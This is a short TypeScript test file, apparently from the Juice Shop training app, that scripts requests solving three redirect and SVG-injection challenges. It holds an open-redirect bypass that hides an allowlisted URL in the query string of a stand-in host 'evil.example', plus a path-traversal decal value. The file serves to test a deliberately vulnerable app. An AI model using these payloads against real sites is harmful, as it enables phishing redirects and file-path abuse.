import request from 'supertest'
import type { Attacks } from '../../lib/attacks'
import { reportFromBrowser } from '../../testing/browser-report'

export const SOURCE_CODE = 'https://github.com/juice-shop/juice-shop'
/** A donation link the shop no longer shows, still on the redirect allowlist. */
export const RETIRED_DONATION_LINK = 'https://blockchain.info/address/1AbKfgvw9psQ41NbLi8kufDQTezwG8DRZm'
/** Another site, with an allowed URL hidden in its query: the allowlist only looks for the URL somewhere inside. */
export const SMUGGLED_TARGET = `https://evil.example/?x=${SOURCE_CODE}`

/** The deluxe page's `testDecal` parameter climbs out of the decal folder to the redirect, which fetches a cat. */
export const CAT_DECAL = `../../../redirect?to=https://cataas.com/cat?x=${SOURCE_CODE}`

export const redirectAttacks = {
  redirectChallenge: (target) => request(target).get(`/redirect?to=${encodeURIComponent(SMUGGLED_TARGET)}`),
  redirectCryptoCurrencyChallenge: (target) => request(target).get(`/redirect?to=${RETIRED_DONATION_LINK}`),
  // the page loads the decal as an image and tells the shop which decal it showed
  svgInjectionChallenge: (target) => reportFromBrowser(target, 'svgInjectionChallenge', ['verifySvgInjectionChallenge', CAT_DECAL]),
} satisfies Attacks
